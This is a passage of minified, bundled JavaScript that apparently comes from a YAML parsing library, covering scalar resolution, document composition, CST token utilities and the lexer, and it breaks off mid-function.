PLAIN,l=RA(o,c);break;case"single-quoted-scalar":a=vu.Scalar.QUOTE_SINGLE,l=IA(o,c);break;case"double-quoted-scalar":a=vu.Scalar.QUOTE_DOUBLE,l=qA(o,c);break;default:
return s(t,"UNEXPECTED_TOKEN",`Expected a flow scalar value, but found: ${n}`),{value:"",type:null,comment:"",range:[r,r+o.length,r+o.length]}}let d=r+o.length,
u=TA.resolveEnd(i,d,e,s);return{value:l,type:a,comment:u.comment,range:[r,d,u.offset]}}function RA(t,e){let s="";switch(t[0]){case"	":s="a tab character";break;case"\
,":s="flow indicator character ,";break;case"%":s="directive indicator character %";break;case"|":case">":{s=`block scalar indicator ${t[0]}`;break}case"@":case"\
`":{s=`reserved character ${t[0]}`;break}}return s&&e(0,"BAD_SCALAR_START",`Plain value cannot start with ${s}`),Ny(t)}function IA(t,e){return(t[t.length-1]!=="\
'"||t.length===1)&&e(t.length,"MISSING_CHAR","Missing closing 'quote"),Ny(t.slice(1,-1)).replace(/''/g,"'")}function Ny(t){let e=/(.*?)\r?\n/sy,s=e.exec(t);if(!s)
return t;let r,n;try{r=new RegExp("(?<![ 	])[ 	]+$"),n=new RegExp("^[ 	]+|(?<![ 	])[ 	]+$","g")}catch{r=/[ \t]+$/,n=/^[ \t]+|[ \t]+$/g}let o=s[1].replace(r,""),
i=" ",a=e.lastIndex;for(;s=e.exec(t);){let c=s[1].replace(n,"");c===""?i===`
`?o+=i:i=`
`:(o+=i+c,i=" "),a=e.lastIndex}let l=/[ \t]*(.*)/sy;return l.lastIndex=a,s=l.exec(t),o+i+(s?.[1]??"")}function qA(t,e){let s="";for(let r=1;r<t.length-1;++r){let n=t[r];
if(!(n==="\r"&&t[r+1]===`
`))if(n===`
`){let{fold:o,offset:i}=OA(t,r);s+=o,r=i}else if(n==="\\"){let o=t[++r],i=NA[o];if(i)s+=i;else if(o===`
`)for(o=t[r+1];o===" "||o==="	";)o=t[++r+1];else if(o==="\r"&&t[r+1]===`
`)for(o=t[++r+1];o===" "||o==="	";)o=t[++r+1];else if(o==="x"||o==="u"||o==="U"){let a=o==="x"?2:o==="u"?4:8;s+=LA(t,r+1,a,e),r+=a}else{let a=t.substr(r-1,2);e(
r-1,"BAD_DQ_ESCAPE",`Invalid escape sequence ${a}`),s+=a}}else if(n===" "||n==="	"){let o=r,i=t[r+1];for(;i===" "||i==="	";)i=t[++r+1];i!==`
`&&!(i==="\r"&&t[r+2]===`
`)&&(s+=r>o?t.slice(o,r+1):n)}else s+=n}return(t[t.length-1]!=='"'||t.length===1)&&e(t.length,"MISSING_CHAR",'Missing closing "quote'),s}function OA(t,e){let s="",
r=t[e+1];for(;(r===" "||r==="	"||r===`
`||r==="\r")&&!(r==="\r"&&t[e+2]!==`
`);)r===`
`&&(s+=`
`),e+=1,r=t[e+1];return s||(s=" "),{fold:s,offset:e}}var NA={0:"\0",a:"\x07",b:"\b",e:"\x1B",f:"\f",n:`
`,r:"\r",t:"	",v:"\v",N:"\x85",_:"\xA0",L:"\u2028",P:"\u2029"," ":" ",'"':'"',"/":"/","\\":"\\","	":"	"};function LA(t,e,s,r){let n=t.substr(e,s),i=n.length===s&&
/^[0-9a-fA-F]+$/.test(n)?parseInt(n,16):NaN;try{return String.fromCodePoint(i)}catch{let a=t.substr(e-2,s+2);return r(e-2,"BAD_DQ_ESCAPE",`Invalid escape sequen\
ce ${a}`),a}}Ly.resolveFlowScalar=PA});var Wy=L(jy=>{"use strict";var Sr=se(),Dy=Re(),DA=ku(),jA=xu();function WA(t,e,s,r){let{value:n,type:o,comment:i,range:a}=e.type==="block-scalar"?DA.resolveBlockScalar(
t,e,r):jA.resolveFlowScalar(e,t.options.strict,r),l=s?t.directives.tagName(s.source,u=>r(s,"TAG_RESOLVE_FAILED",u)):null,c;t.options.stringKeys&&t.atKey?c=t.schema[Sr.
SCALAR]:l?c=MA(t.schema,n,l,s,r):e.type==="scalar"?c=FA(t,n,e,r):c=t.schema[Sr.SCALAR];let d;try{let u=c.resolve(n,p=>r(s??e,"TAG_RESOLVE_FAILED",p),t.options);
d=Sr.isScalar(u)?u:new Dy.Scalar(u)}catch(u){let p=u instanceof Error?u.message:String(u);r(s??e,"TAG_RESOLVE_FAILED",p),d=new Dy.Scalar(n)}return d.range=a,d.source=
n,o&&(d.type=o),l&&(d.tag=l),c.format&&(d.format=c.format),i&&(d.comment=i),d}function MA(t,e,s,r,n){if(s==="!")return t[Sr.SCALAR];let o=[];for(let a of t.tags)
if(!a.collection&&a.tag===s)if(a.default&&a.test)o.push(a);else return a;for(let a of o)if(a.test?.test(e))return a;let i=t.knownTags[s];return i&&!i.collection?
(t.tags.push(Object.assign({},i,{default:!1,test:void 0})),i):(n(r,"TAG_RESOLVE_FAILED",`Unresolved tag: ${s}`,s!=="tag:yaml.org,2002:str"),t[Sr.SCALAR])}function FA({
atKey:t,directives:e,schema:s},r,n,o){let i=s.tags.find(a=>(a.default===!0||t&&a.default==="key")&&a.test?.test(r))||s[Sr.SCALAR];if(s.compat){let a=s.compat.find(
l=>l.default&&l.test?.test(r))??s[Sr.SCALAR];if(i.tag!==a.tag){let l=e.tagString(i.tag),c=e.tagString(a.tag),d=`Value may be parsed as either ${l} or ${c}`;o(n,
"TAG_RESOLVE_FAILED",d,!0)}}return i}jy.composeScalar=WA});var Fy=L(My=>{"use strict";function UA(t,e,s){if(e){s??(s=e.length);for(let r=s-1;r>=0;--r){let n=e[r];switch(n.type){case"space":case"comment":case"newline":t-=
n.source.length;continue}for(n=e[++r];n?.type==="space";)t+=n.source.length,n=e[++r];break}}return t}My.emptyScalarPosition=UA});var Hy=L(_u=>{"use strict";var VA=eo(),HA=se(),BA=qy(),Uy=Wy(),zA=pn(),GA=Fy(),KA={composeNode:Vy,composeEmptyNode:$u};function Vy(t,e,s,r){let n=t.atKey,{spaceBefore:o,
comment:i,anchor:a,tag:l}=s,c,d=!0;switch(e.type){case"alias":c=YA(t,e,r),(a||l)&&r(e,"ALIAS_PROPS","An alias node must not specify any properties");break;case"\
scalar":case"single-quoted-scalar":case"double-quoted-scalar":case"block-scalar":c=Uy.composeScalar(t,e,l,r),a&&(c.anchor=a.source.substring(1));break;case"bloc\
k-map":case"block-seq":case"flow-collection":try{c=BA.composeCollection(KA,t,e,s,r),a&&(c.anchor=a.source.substring(1))}catch(u){let p=u instanceof Error?u.message:
String(u);r(e,"RESOURCE_EXHAUSTION",p)}break;default:{let u=e.type==="error"?e.message:`Unsupported token (type: ${e.type})`;r(e,"UNEXPECTED_TOKEN",u),d=!1}}return c??
(c=$u(t,e.offset,void 0,null,s,r)),a&&c.anchor===""&&r(a,"BAD_ALIAS","Anchor cannot be an empty string"),n&&t.options.stringKeys&&(!HA.isScalar(c)||typeof c.value!=
"string"||c.tag&&c.tag!=="tag:yaml.org,2002:str")&&r(l??e,"NON_STRING_KEY","With stringKeys, all keys must be strings"),o&&(c.spaceBefore=!0),i&&(e.type==="scal\
ar"&&e.source===""?c.comment=i:c.commentBefore=i),t.options.keepSourceTokens&&d&&(c.srcToken=e),c}function $u(t,e,s,r,{spaceBefore:n,comment:o,anchor:i,tag:a,end:l},c){
let d={type:"scalar",offset:GA.emptyScalarPosition(e,s,r),indent:-1,source:""},u=Uy.composeScalar(t,d,a,c);return i&&(u.anchor=i.source.substring(1),u.anchor===
""&&c(i,"BAD_ALIAS","Anchor cannot be an empty string")),n&&(u.spaceBefore=!0),o&&(u.comment=o,u.range[2]=l),u}function YA({options:t},{offset:e,source:s,end:r},n){
let o=new VA.Alias(s.substring(1));o.source===""&&n(e,"BAD_ALIAS","Alias cannot be an empty string"),o.source.endsWith(":")&&n(e+s.length-1,"BAD_ALIAS","Alias e\
nding in : is ambiguous",!0);let i=e+s.length,a=zA.resolveEnd(r,i,t.strict,n);return o.range=[e,i,a.offset],a.comment&&(o.comment=a.comment),o}_u.composeEmptyNode=
$u;_u.composeNode=Vy});var Gy=L(zy=>{"use strict";var QA=bo(),By=Hy(),XA=pn(),JA=vo();function ZA(t,e,{offset:s,start:r,value:n,end:o},i){let a=Object.assign({_directives:e},t),l=new QA.
Document(void 0,a),c={atKey:!1,atRoot:!0,directives:l.directives,options:l.options,schema:l.schema},d=JA.resolveProps(r,{indicator:"doc-start",next:n??o?.[0],offset:s,
onError:i,parentIndent:0,startOnNewline:!0});d.found&&(l.directives.docStart=!0,n&&(n.type==="block-map"||n.type==="block-seq")&&!d.hasNewline&&i(d.end,"MISSING\
_CHAR","Block collection cannot start on same line with directives-end marker")),l.contents=n?By.composeNode(c,n,d,i):By.composeEmptyNode(c,d.end,r,null,d,i);let u=l.
contents.range[2],p=XA.resolveEnd(o,u,!1,i);return p.comment&&(l.comment=p.comment),l.range=[s,u,p.offset],l}zy.composeDoc=ZA});var Cu=L(Qy=>{"use strict";var eT=require("process"),tT=ud(),sT=bo(),xo=ko(),Ky=se(),rT=Gy(),nT=pn();function $o(t){if(typeof t=="number")return[t,t+1];if(Array.
isArray(t))return t.length===2?t:[t[0],t[1]];let{offset:e,source:s}=t;return[e,e+(typeof s=="string"?s.length:1)]}function Yy(t){let e="",s=!1,r=!1;for(let n=0;n<
t.length;++n){let o=t[n];switch(o[0]){case"#":e+=(e===""?"":r?`

`:`
`)+(o.substring(1)||" "),s=!0,r=!1;break;case"%":t[n+1]?.[0]!=="#"&&(n+=1),s=!1;break;default:s||(r=!0),s=!1}}return{comment:e,afterEmptyLine:r}}var Su=class{constructor(e={}){
this.doc=null,this.atDirectives=!1,this.prelude=[],this.errors=[],this.warnings=[],this.onError=(s,r,n,o)=>{let i=$o(s);o?this.warnings.push(new xo.YAMLWarning(
i,r,n)):this.errors.push(new xo.YAMLParseError(i,r,n))},this.directives=new tT.Directives({version:e.version||"1.2"}),this.options=e}decorate(e,s){let{comment:r,
afterEmptyLine:n}=Yy(this.prelude);if(r){let o=e.contents;if(s)e.comment=e.comment?`${e.comment}
${r}`:r;else if(n||e.directives.docStart||!o)e.commentBefore=r;else if(Ky.isCollection(o)&&!o.flow&&o.items.length>0){let i=o.items[0];Ky.isPair(i)&&(i=i.key);let a=i.
commentBefore;i.commentBefore=a?`${r}
${a}`:r}else{let i=o.commentBefore;o.commentBefore=i?`${r}
${i}`:r}}if(s){for(let o=0;o<this.errors.length;++o)e.errors.push(this.errors[o]);for(let o=0;o<this.warnings.length;++o)e.warnings.push(this.warnings[o])}else e.
errors=this.errors,e.warnings=this.warnings;this.prelude=[],this.errors=[],this.warnings=[]}streamInfo(){return{comment:Yy(this.prelude).comment,directives:this.
directives,errors:this.errors,warnings:this.warnings}}*compose(e,s=!1,r=-1){for(let n of e)yield*this.next(n);yield*this.end(s,r)}*next(e){switch(eT.env.LOG_STREAM&&
console.dir(e,{depth:null}),e.type){case"directive":this.directives.add(e.source,(s,r,n)=>{let o=$o(e);o[0]+=s,this.onError(o,"BAD_DIRECTIVE",r,n)}),this.prelude.
push(e.source),this.atDirectives=!0;break;case"document":{let s=rT.composeDoc(this.options,this.directives,e,this.onError);this.atDirectives&&!s.directives.docStart&&
this.onError(e,"MISSING_CHAR","Missing directives-end/doc-start indicator line"),this.decorate(s,!1),this.doc&&(yield this.doc),this.doc=s,this.atDirectives=!1;
break}case"byte-order-mark":case"space":break;case"comment":case"newline":this.prelude.push(e.source);break;case"error":{let s=e.source?`${e.message}: ${JSON.stringify(
e.source)}`:e.message,r=new xo.YAMLParseError($o(e),"UNEXPECTED_TOKEN",s);this.atDirectives||!this.doc?this.errors.push(r):this.doc.errors.push(r);break}case"do\
c-end":{if(!this.doc){let r="Unexpected doc-end without preceding document";this.errors.push(new xo.YAMLParseError($o(e),"UNEXPECTED_TOKEN",r));break}this.doc.directives.
docEnd=!0;let s=nT.resolveEnd(e.end,e.offset+e.source.length,this.doc.options.strict,this.onError);if(this.decorate(this.doc,!0),s.comment){let r=this.doc.comment;
this.doc.comment=r?`${r}
${s.comment}`:s.comment}this.doc.range[2]=s.offset;break}default:this.errors.push(new xo.YAMLParseError($o(e),"UNEXPECTED_TOKEN",`Unsupported token ${e.type}`))}}*end(e=!1,s=-1){
if(this.doc)this.decorate(this.doc,!0),yield this.doc,this.doc=null;else if(e){let r=Object.assign({_directives:this.directives},this.options),n=new sT.Document(
void 0,r);this.atDirectives&&this.onError(s,"MISSING_CHAR","Missing directives-end indicator line"),n.range=[0,s,s],this.decorate(n,!1),yield n}}};Qy.Composer=Su});var Zy=L(Qa=>{"use strict";var oT=ku(),iT=xu(),aT=ko(),Xy=oo();function lT(t,e=!0,s){if(t){let r=(n,o,i)=>{let a=typeof n=="number"?n:Array.isArray(n)?n[0]:n.offset;
if(s)s(a,o,i);else throw new aT.YAMLParseError([a,a+1],o,i)};switch(t.type){case"scalar":case"single-quoted-scalar":case"double-quoted-scalar":return iT.resolveFlowScalar(
t,e,r);case"block-scalar":return oT.resolveBlockScalar({options:{strict:e}},t,r)}}return null}function cT(t,e){let{implicitKey:s=!1,indent:r,inFlow:n=!1,offset:o=-1,
type:i="PLAIN"}=e,a=Xy.stringifyString({type:i,value:t},{implicitKey:s,indent:r>0?" ".repeat(r):"",inFlow:n,options:{blockQuote:!0,lineWidth:-1}}),l=e.end??[{type:"\
newline",offset:-1,indent:r,source:`
`}];switch(a[0]){case"|":case">":{let c=a.indexOf(`
`),d=a.substring(0,c),u=a.substring(c+1)+`
`,p=[{type:"block-scalar-header",offset:o,indent:r,source:d}];return Jy(p,l)||p.push({type:"newline",offset:-1,indent:r,source:`
`}),{type:"block-scalar",offset:o,indent:r,props:p,source:u}}case'"':return{type:"double-quoted-scalar",offset:o,indent:r,source:a,end:l};case"'":return{type:"s\
ingle-quoted-scalar",offset:o,indent:r,source:a,end:l};default:return{type:"scalar",offset:o,indent:r,source:a,end:l}}}function dT(t,e,s={}){let{afterKey:r=!1,implicitKey:n=!1,
inFlow:o=!1,type:i}=s,a="indent"in t?t.indent:null;if(r&&typeof a=="number"&&(a+=2),!i)switch(t.type){case"single-quoted-scalar":i="QUOTE_SINGLE";break;case"dou\
ble-quoted-scalar":i="QUOTE_DOUBLE";break;case"block-scalar":{let c=t.props[0];if(c.type!=="block-scalar-header")throw new Error("Invalid block scalar header");
i=c.source[0]===">"?"BLOCK_FOLDED":"BLOCK_LITERAL";break}default:i="PLAIN"}let l=Xy.stringifyString({type:i,value:e},{implicitKey:n||a===null,indent:a!==null&&a>
0?" ".repeat(a):"",inFlow:o,options:{blockQuote:!0,lineWidth:-1}});switch(l[0]){case"|":case">":uT(t,l);break;case'"':Eu(t,l,"double-quoted-scalar");break;case"\
'":Eu(t,l,"single-quoted-scalar");break;default:Eu(t,l,"scalar")}}function uT(t,e){let s=e.indexOf(`
`),r=e.substring(0,s),n=e.substring(s+1)+`
`;if(t.type==="block-scalar"){let o=t.props[0];if(o.type!=="block-scalar-header")throw new Error("Invalid block scalar header");o.source=r,t.source=n}else{let{offset:o}=t,
i="indent"in t?t.indent:-1,a=[{type:"block-scalar-header",offset:o,indent:i,source:r}];Jy(a,"end"in t?t.end:void 0)||a.push({type:"newline",offset:-1,indent:i,source:`\

`});for(let l of Object.keys(t))l!=="type"&&l!=="offset"&&delete t[l];Object.assign(t,{type:"block-scalar",indent:i,props:a,source:n})}}function Jy(t,e){if(e)for(let s of e)
switch(s.type){case"space":case"comment":t.push(s);break;case"newline":return t.push(s),!0}return!1}function Eu(t,e,s){switch(t.type){case"scalar":case"double-q\
uoted-scalar":case"single-quoted-scalar":t.type=s,t.source=e;break;case"block-scalar":{let r=t.props.slice(1),n=e.length;t.props[0].type==="block-scalar-header"&&
(n-=t.props[0].source.length);for(let o of r)o.offset+=n;delete t.props,Object.assign(t,{type:s,source:e,end:r});break}case"block-map":case"block-seq":{let n={type:"\
newline",offset:t.offset+e.length,indent:t.indent,source:`
`};delete t.items,Object.assign(t,{type:s,source:e,end:[n]});break}default:{let r="indent"in t?t.indent:-1,n="end"in t&&Array.isArray(t.end)?t.end.filter(o=>o.type===
"space"||o.type==="comment"||o.type==="newline"):[];for(let o of Object.keys(t))o!=="type"&&o!=="offset"&&delete t[o];Object.assign(t,{type:s,indent:r,source:e,
end:n})}}}Qa.createScalarToken=cT;Qa.resolveAsScalar=lT;Qa.setScalarValue=dT});var tw=L(ew=>{"use strict";var pT=t=>"type"in t?Ja(t):Xa(t);function Ja(t){switch(t.type){case"block-scalar":{let e="";for(let s of t.props)e+=Ja(s);return e+t.
source}case"block-map":case"block-seq":{let e="";for(let s of t.items)e+=Xa(s);return e}case"flow-collection":{let e=t.start.source;for(let s of t.items)e+=Xa(s);
for(let s of t.end)e+=s.source;return e}case"document":{let e=Xa(t);if(t.end)for(let s of t.end)e+=s.source;return e}default:{let e=t.source;if("end"in t&&t.end)
for(let s of t.end)e+=s.source;return e}}}function Xa({start:t,key:e,sep:s,value:r}){let n="";for(let o of t)n+=o.source;if(e&&(n+=Ja(e)),s)for(let o of s)n+=o.
source;return r&&(n+=Ja(r)),n}ew.stringify=pT});var ow=L(nw=>{"use strict";var Au=Symbol("break visit"),fT=Symbol("skip children"),sw=Symbol("remove item");function Cr(t,e){"type"in t&&t.type==="document"&&(t=
{start:t.start,value:t.value}),rw(Object.freeze([]),t,e)}Cr.BREAK=Au;Cr.SKIP=fT;Cr.REMOVE=sw;Cr.itemAtPath=(t,e)=>{let s=t;for(let[r,n]of e){let o=s?.[r];if(o&&
"items"in o)s=o.items[n];else return}return s};Cr.parentCollection=(t,e)=>{let s=Cr.itemAtPath(t,e.slice(0,-1)),r=e[e.length-1][0],n=s?.[r];if(n&&"items"in n)return n;
throw new Error("Parent collection not found")};function rw(t,e,s){let r=s(e,t);if(typeof r=="symbol")return r;for(let n of["key","value"]){let o=e[n];if(o&&"it\
ems"in o){for(let i=0;i<o.items.length;++i){let a=rw(Object.freeze(t.concat([[n,i]])),o.items[i],s);if(typeof a=="number")i=a-1;else{if(a===Au)return Au;a===sw&&
(o.items.splice(i,1),i-=1)}}typeof r=="function"&&n==="key"&&(r=r(e,t))}}return typeof r=="function"?r(e,t):r}nw.visit=Cr});var Za=L(dt=>{"use strict";var Tu=Zy(),mT=tw(),hT=ow(),Pu="\uFEFF",Ru="",Iu="",qu="",gT=t=>!!t&&"items"in t,bT=t=>!!t&&(t.type==="scalar"||t.type==="single-q\
uoted-scalar"||t.type==="double-quoted-scalar"||t.type==="block-scalar");function yT(t){switch(t){case Pu:return"<BOM>";case Ru:return"<DOC>";case Iu:return"<FL\
OW_END>";case qu:return"<SCALAR>";default:return JSON.stringify(t)}}function wT(t){switch(t){case Pu:return"byte-order-mark";case Ru:return"doc-mode";case Iu:return"\
flow-error-end";case qu:return"scalar";case"---":return"doc-start";case"...":return"doc-end";case"":case`
`:case`\r
`:return"newline";case"-":return"seq-item-ind";case"?":return"explicit-key-ind";case":":return"map-value-ind";case"{":return"flow-map-start";case"}":return"flow\
-map-end";case"[":return"flow-seq-start";case"]":return"flow-seq-end";case",":return"comma"}switch(t[0]){case" ":case"	":return"space";case"#":return"comment";case"\
%":return"directive-line";case"*":return"alias";case"&":return"anchor";case"!":return"tag";case"'":return"single-quoted-scalar";case'"':return"double-quoted-sca\
lar";case"|":case">":return"block-scalar-header"}return null}dt.createScalarToken=Tu.createScalarToken;dt.resolveAsScalar=Tu.resolveAsScalar;dt.setScalarValue=Tu.
setScalarValue;dt.stringify=mT.stringify;dt.visit=hT.visit;dt.BOM=Pu;dt.DOCUMENT=Ru;dt.FLOW_END=Iu;dt.SCALAR=qu;dt.isCollection=gT;dt.isScalar=bT;dt.prettyToken=
yT;dt.tokenType=wT});var Lu=L(aw=>{"use strict";var _o=Za();function Ot(t){switch(t){case void 0:case" ":case`
`:case"\r":case"	":return!0;default:return!1}}var iw=new Set("0123456789ABCDEFabcdef"),kT=new Set("0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxy\
z-#;/?:@&=+$_.!~*'()"),el=new Set(",[]{}"),vT=new Set(` ,[]{}
\r	`),Ou=t=>!t||vT.has(t),Nu=class{constructor(){this.atEnd=!1,this.blockScalarIndent=-1,this.blockScalarKeep=!1,this.buffer="",this.flowKey=!1,this.flowLevel=0,
this.indentNext=0,this.indentValue=0,this.lineEndPos=null,this.next=null,this.pos=0}*lex(e,s=!1){if(e){if(typeof e!="string")throw TypeError("source is not a st\
ring");this.buffer=this.buffer?this.buffer+e:e,this.lineEndPos=null}this.atEnd=!s;let r=this.next??"stream";for(;r&&(s||this.hasChars(1));)r=yield*this.parseNext(
r)}atLineEnd(){let e=this.pos,s=this.buffer[e];for(;s===" "||s==="	";)s=this.buffer[++e];return!s||s==="#"||s===`
`?!0:s==="\r"?this.buffer[e+1]===`
`:!1}charAt(e){return this.buffer[this.pos+e]}continueScalar(e){let s=this.buffer[e];if(this.indentNext>0){let r=0;for(;s===" ";)s=this.buffer[++r+e];if(s==="\r"){
let n=this.buffer[r+e+1];if(n===`
`||!n&&!this.atEnd)return e+r+1}return s===`
`||r>=this.indentNext||!s&&!this.atEnd?e+r:-1}if(s==="-"||s==="."){let r=this.buffer.substr(e,3);if((r==="---"||r==="...")&&Ot(this.buffer[e+3]))return-1}return e}getLine(){
let e=this.lineEndPos;return(typeof e!="number"||e!==-1&&e<this.pos)&&(e=this.buffer.indexOf(`
`,this.pos),this.lineEndPos=e),e===-1?this.atEnd?this.buffer.substring(this.pos):null:(this.buffer[e-1]==="\r"&&(e-=1),this.buffer.substring(this.pos,e))}hasChars(e){
return this.pos+e<=this.buffer.length}setNext(e){return this.buffer=this.buffer.substring(this.pos),this.pos=0,this.lineEndPos=null,this.next=e,null}peek(e){return this.
buffer.substr(this.pos,e)}*parseNext(e){switch(e){case"stream":return yield*this.parseStream();case"line-start":return yield*this.parseLineStart();case"block-st\
art":return yield*this.parseBlockStart();case"doc":return yield*this.parseDocument();case"flow":return yield*this.parseFlowCollection();case"quoted-scalar":return yield*this.
parseQuotedScalar();case"block-scalar":return yield*this.parseBlockScalar();case"plain-scalar":return yield*this.parsePlainScalar()}}*parseStream(){let e=this.getLine();
if(e===null)return this.setNext("stream");if(e[0]===_o.BOM&&(yield*this.pushCount(1),e=e.substring(1)),e[0]==="%"){let s=e.length,r=e.indexOf("#");for(;r!==-1;){
let o=e[r-1];if(o===" "||o==="	"){s=r-1;break}else r=e.indexOf("#",r+1)}for(;;){let o=e[s-1];if(o===" "||o==="	")s-=1;else break}let n=(yield*this.pushCount(s))+
(yield*this.pushSpaces(!0));return yield*this.pushCount(e.length-n),this.pushNewline(),"stream"}if(this.atLineEnd()){let s=yield*this.pushSpaces(!0);return yield*this.
pushCount(e.length-s),yield*this.pushNewline(),"stream"}return yield _o.DOCUMENT,yield*this.parseLineStart()}*parseLineStart(){let e=this.charAt(0);if(!e&&!this.
atEnd)return this.setNext("line-start");if(e==="-"||e==="."){if(!this.atEnd&&!this.hasChars(4))return this.setNext("line-start");let s=this.peek(3);if((s==="---"||
s==="...")&&Ot(this.charAt(3)))return yield*this.pushCount(3),this.indentValue=0,this.indentNext=0,s==="---"?"doc":"stream"}return this.indentValue=yield*this.pushSpaces(
!1),this.indentNext>this.indentValue&&!Ot(this.charAt(1))&&(this.indentNext=this.indentValue),yield*this.parseBlockStart()}*parseBlockStart(){let[e,s]=this.peek(
2);if(!s&&!this.atEnd)return this.setNext("block-start");if((e==="-"||e==="?"||e===":")&&Ot(s)){let r=(yield*this.pushCount(1))+(yield*this.pushSpaces(!0));return this.
indentNext=this.indentValue+1,this.indentValue+=r,"block-start"}return"doc"}*parseDocument(){yield*this.pushSpaces(!0);let e=this.getLine();if(e===null)return this.
setNext("doc");let s=yield*this.pushIndicators();switch(e[s]){case"#":yield*this.pushCount(e.length-s);case void 0:return yield*this.pushNewline(),yield*this.parseLineStart();case"\
{":case"[":return yield*this.pushCount(1),this.flowKey=!1,this.flowLevel=1,"flow";case"}":case"]":return yield*this.pushCount(1),"doc";case"*":return yield*this.
pushUntil(Ou),"doc";case'"':case"'":return yield*this.parseQuotedScalar();case"|":case">":return s+=yield*this.parseBlockScalarHeader(),s+=yield*this.pushSpaces(
!0),yield*this.pushCount(e.length-s),yield*this.pushNewline(),yield*this.parseBlockScalar();default:return yield*this.parsePlainScalar()}}*parseFlowCollection(){
let e,s,r=-1;do e=yield*this.pushNewline(),e>0?(s=yield*this.pushSpaces(!1),this.indentValue=r=s):s=0,s+=yield*this.pushSpaces(!0);while(e+s>0);let n=this.getLine();
if(n===null)return this.setNext("flow");if((r!==-1&&r<this.indentNext&&n[0]!=="#"||r===0&&(n.startsWith("---")||n.startsWith("..."))&&Ot(n[3]))&&!(r===this.indentNext-
1&&this.flowLevel===1&&(n[0]==="]"||n[0]==="}")))return this.flowLevel=0,yield _o.FLOW_END,yield*this.parseLineStart();let o=0;for(;n[o]===",";)o+=yield*this.pushCount(
1),o+=yield*this.pushSpaces(!0),this.flowKey=!1;switch(o+=yield*this.pushIndicators(),n[o]){case void 0:return"flow";case"#":return yield*this.pushCount(n.length-
o),"flow";case"{":case"[":return yield*this.pushCount(1),this.flowKey=!1,this.flowLevel+=1,"flow";case"}":case"]":return yield*this.pushCount(1),this.flowKey=!0,
this.flowLevel-=1,this.flowLevel?"flow":"doc";case"*":return yield*this.pushUntil(Ou),"flow";case'"':case"'":return this.flowKey=!0,yield*this.parseQuotedScalar();case"\
:":{let i=this.charAt(1);if(this.flowKey||Ot(i)||i===",")return this.flowKey=!1,yield*this.pushCount(1),yield*this.pushSpaces(!0),"flow"}default:return this.flowKey=
!1,yield*this.parsePlainScalar()}}*parseQuotedScalar(){let e=this.charAt(0),s=this.buffer.indexOf(e,this.pos+1);if(e==="'")for(;s!==-1&&this.buffer[s+1]==="'";)
s=this.buffer.indexOf("'",s+2);else for(;s!==-1;){let o=0;for(;this.buffer[s-1-o]==="\\";)o+=1;if(o%2===0)break;s=this.buffer.indexOf('"',s+1)}let r=this.buffer.
substring(0,s),n=r.indexOf(`
`,this.pos);if(n!==-1){for(;n!==-1;){let o=this.continueScalar(n+1);if(o===-1)break;n=r.indexOf(`
`,o)}n!==-1&&(s=n-(r[n-1]==="\r"?2:1))}if(s===-1){if(!this.atEnd)return this.setNext("quoted-scalar");s=this.buffer.length}return yield*this.pushToIndex(s+1,!1),
this.flowLevel?"flow":"doc"}*parseBlockScalarHeader(){this.blockScalarIndent=-1,this.blockScalarKeep=!1;let e=this.pos;for(;;){let s=this.buffer[++e];if(s==="+")
this.blockScalarKeep=!0;else if(s>"0"&&s<="9")this.blockScalarIndent=Number(s)-1;else if(s!=="-")break}return yield*this.pushUntil(s=>Ot(s)||s==="#")}*parseBlockScalar(){
let e=this.pos-1,s=0,r;e:for(let o=this.pos;r=this.buffer[o];++o)switch(r){case" ":s+=1;break;case`
`:e=o,s=0;break;case"\r":{let i=this.buffer[o+1];if(!i&&!this.atEnd)return this.setNext("block-scalar");if(i===`
`)break}default:break e}if(!r&&!this.atEnd)return this.setNext("block-scalar");if(s>=this.indentNext){this.blockScalarIndent===-1?this.indentNext=s:this.indentNext=
this.blockScalarIndent+(this.indentNext===0?1:this.indentNext);do{let o=this.continueScalar(e+1);if(o===-1)break;e=this.buffer.indexOf(`
`,o)}while(e!==-1);if(e===-1){if(!this.atEnd)return this.setNext("block-scalar");e=this.buffer.length}}let n=e+1;for(r=this.buffer[n];r===" ";)r=this.buffer[++n];
if(r==="	"){for(;r==="	"||r===" "||r==="\r"||r===`
`;)r=this.buffer[++n];e=n-1}else if(!this.blockScalarKeep)do{let o=e-1,i=this.buffer[o];i==="\r"&&(i=this.buffer[--o]);let a=o;for(;i===" ";)i=this.buffer[--o];
if(i===`
`&&o>=this.pos&&o+1+s>a)e=o;else break}while(!0);return yield _o.SCALAR,yield*this.pushToIndex(e+1,!0),yield*this.parseLineStart()}*parsePlainScalar(){let e=this.
flowLevel>0,s=this.pos-1,r=this.pos-1,n;for(;n=this.buffer[++r];)if(n===":"){let o=this.buffer[r+1];if(Ot(o)||e&&el.has(o))break;s=r}else if(Ot(n)){let o=this.buffer[r+
1];if(n==="\r"&&(o===`
`?(r+=1,n=`
`,o=this.buffer[r+1]):s=r),o==="#"||e&&el.has(o))break;if(n===`
`){let i=this.continueScalar(r+1);if(i===-1)break;r=Math.max(r,i-2)}}else{if(e&&el.has(n))break;s=r}return!n&&!this.atEnd?this.setNext("plain-scalar"):(yield _o.
SCALAR,yield*this.pushToIndex(s+1,!0),e?"flow":"doc")}*pushCount(e){return e>0?(yield this.buffer.substr(this.pos,e),this.pos+=e,e):0}*pushToIndex(e,s){let r=this.
buffer.slice(this.pos,e);return r?(yield r,this.pos+=r.length,r.length):(s&&(yield""),0)}*pushIndicators(){let e=0;e:for(;;){switch(this.charAt(0)){case"!":e+=yield*this.
pushTag(),e+=yield*this.pushSpaces(!0);continue e;case"&":e+=yield*this.pushUntil(Ou),e+=yield*this.pushSpaces(!0);continue e;case"-":case"?":case":":{let s=this.
flowLevel>0,r=this.charAt(1);if(Ot(r)||s&&el.has(r)){s?this.flowKey&&(this.flowKey=!1):this.indentNext=this.indentValue+1,e+=yield*this.pushCount(1),e+=yield*this.
pushSpaces(!0);continue e}}}break e}return e}*pushTag(){if(this.charAt(1)==="<"){let e=this.pos+2,s=this.buffer[e];for(;!Ot(s)&&s!==">";)s=this.buffer[++e];return yield*this.
pushToIndex(s===">"?e+1:e,!1)}else{let e=this.pos+1,s=this.buffer[e];for(;s;)if(kT.has(s))s=this.buffer[++e];else if(s==="%"&&iw.has(this.buffer[e+1])&&iw.has(this.
buffer[e+2]))s=this.buffer[e+=3];else break;return yield*this.pushToIndex(e,!1)}}*pushNewline(){let e=this.buffer[this.pos];return e===`
`?yield*this.pushCount(1):e==="\r"&&this.charAt(1)===`
